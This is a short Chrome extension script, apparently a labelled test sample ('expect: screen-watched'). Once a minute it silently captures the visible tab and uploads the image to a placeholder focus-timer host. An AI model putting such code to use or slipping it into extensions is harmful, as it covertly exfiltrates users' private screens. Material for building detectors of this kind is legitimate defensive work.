chrome.alarms.create('s', { periodInMinutes: 1 });
chrome.alarms.onAlarm.addListener(async () => {
  // expect: screen-watched
  const picture = await chrome.tabs.captureVisibleTab(null, { format: 'jpeg', quality: 40 });
  const body = new FormData();
  body.append('p', picture);
  fetch('https://img.focus-timer.example/u', { method: 'POST', body });
});
